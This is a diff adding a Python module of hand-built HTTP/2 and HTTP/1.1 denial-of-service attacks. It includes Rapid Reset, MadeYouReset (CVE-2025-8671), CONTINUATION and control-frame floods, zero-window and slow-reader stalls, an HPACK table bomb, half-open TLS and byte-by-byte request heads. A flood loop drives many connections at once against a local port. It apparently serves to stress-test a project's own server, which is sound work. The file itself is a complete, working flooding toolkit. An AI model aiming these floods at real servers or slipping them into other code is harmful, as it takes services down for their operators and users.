@@ -1,0 +1,224 @@
+"""HTTP/2 as an attacker speaks it: frames by hand, without flow control and without waiting."""
+import socket
+import struct
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+INITIAL_WINDOW = 4
+BATCH = 200  # frames, or pairs of them, sent at once
+TURN_SECONDS = 0.002
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
+        ">I", stream) + payload
+
+
+def literal(name, value, indexed=False):
+    """A header field without Huffman coding (RFC 7541, section 6.2)."""
+    field = b"\x40" if indexed else b"\0"
+    for text in (name, value):
+        size = len(text)
+        if size < 127:
+            field += bytes([size])
+        else:
+            field, size = field + b"\x7f", size - 127
+            while size >= 128:
+                field, size = field + bytes([size & 127 | 128]), size >> 7
+            field += bytes([size])
+        field += text
+    return field
+
+
+def head(path=b"/healthz", method=b"GET", more=b""):
+    return b"".join(literal(name, value) for name, value in (
+        (b":method", method), (b":scheme", b"http"), (b":path", path),
+        (b":authority", b"localhost"))) + more
+
+
+OPENING = PREFACE + frame(SETTINGS)
+GET = head()
+
+
+class Attack:
+    """What one connection sends: `opening` first, then what `more` gives, again and again. The
+    class's attributes say how it behaves; `stream` is the next one's number."""
+
+    secure = False
+    reads = True
+    opening = OPENING
+
+    def __init__(self):
+        self.stream = 1
+
+    def next_stream(self):
+        stream, self.stream = self.stream, self.stream + 2
+        return stream
+
+    def more(self):
+        return b""
+
+
+class RapidReset(Attack):
+    def more(self):
+        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) +
+                        frame(RESET, 0, stream, b"\0\0\0\x08")
+                        for stream in (self.next_stream() for _ in range(BATCH)))
+
+
+class MadeYouReset(Attack):
+    """CVE-2025-8671: a window's increment of 0 is an error of the stream, so we reset it."""
+
+    def more(self):
+        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) +
+                        frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
+                        for stream in (self.next_stream() for _ in range(BATCH)))
+
+
+class Continuation(Attack):
+    opening = OPENING + frame(HEADERS, END_STREAM, 1, GET)
+
+    def more(self):
+        return frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * BATCH
+
+
+class Settings(Attack):
+    def more(self):
+        return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * BATCH
+
+
+class Ping(Attack):
+    def more(self):
+        return frame(PING, 0, 0, b"12345678") * BATCH
+
+
+class PingUnread(Ping):
+    """The same by one who does not read the answers."""
+    reads = False
+
+
+class EmptyData(Attack):
+    opening = OPENING + frame(HEADERS, END_HEADERS, 1, head(b"/api/offline/changes", b"POST"))
+
+    def more(self):
+        return frame(DATA, 0, 1) * BATCH
+
+
+class ClosedData(Attack):
+    """DATA on a stream that is over."""
+    opening = OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET)
+
+    def more(self):
+        return frame(DATA, 0, 1, b"x") * BATCH
+
+
+class Priority(Attack):
+    def more(self):
+        return b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10")
+                        for stream in (self.next_stream() for _ in range(BATCH)))
+
+
+class WindowUpdate(Attack):
+    def more(self):
+        return frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * BATCH
+
+
+class ZeroWindow(Attack):
+    """Answers that are asked for and never taken."""
+    opening = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
+
+    def more(self):
+        if self.stream > 2 * 100:
+            return b""
+        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, self.next_stream(),
+                              head(b"/openapi.json")) for _ in range(20))
+
+
+class HpackBomb(Attack):
+    """One entry of 4 kB in the table of headers, and 16,000 references to it in each block."""
+    opening = OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1,
+                              GET + literal(b"a", b"b" * 4000, indexed=True))
+
+    def __init__(self):
+        super().__init__()
+        self.stream = 3
+
+    def more(self):
+        return frame(HEADERS, END_STREAM | END_HEADERS, self.next_stream(), GET + b"\xbe" * 16000)
+
+
+class SlowReader(Attack):
+    """Opens all windows and takes what comes byte by byte."""
+    reads = False
+    opening = (PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 2**31 - 1)) +
+               frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
+    more = ZeroWindow.more
+
+
+class HalfOpen(Attack):
+    """A TLS handshake that is begun and never ended; the connection is left, another made."""
+    secure = True
+    opening = b"\x16\x03\x01\x02\x00\x01"
+
+
+class SlowHead(Attack):
+    """An HTTP/1.1 head that comes byte by byte."""
+    opening = b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "
+
+    def more(self):
+        return b"x"
+
+
+class _Slot:
+    """One connection of a flood, made anew whenever it ends."""
+
+    def __init__(self, kind, port):
+        self.kind, self.port = kind, port
+        self.socket = self.attack = None
+        self.waiting = b""
+        self.opened = 0
+
+    def turn(self):
+        try:
+            if self.socket is None:
+                self.socket = socket.create_connection(("127.0.0.1", self.port), 5)
+                self.socket.setblocking(False)
+                self.attack, self.opened = self.kind(), self.opened + 1
+                self.waiting = self.attack.opening
+            if self.attack.reads:
+                self._read()
+            if not self.waiting:
+                self.waiting = self.attack.more()
+            if self.waiting:
+                self.waiting = self.waiting[self.socket.send(self.waiting):]
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.close()
+
+    def _read(self):
+        try:
+            while True:
+                if not self.socket.recv(65536):
+                    raise ConnectionResetError
+        except BlockingIOError:
+            pass
+
+    def close(self):
+        if self.socket:
+            self.socket.close()
+        self.socket = None
+
+
+def flood(kind, port, connections, seconds):
+    """Attacks on so many connections at once, for so long."""
+    slots = [_Slot(kind, port) for _ in range(connections)]
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        for slot in slots:
+            slot.turn()
+        time.sleep(TURN_SECONDS)
+    for slot in slots:
+        slot.close()
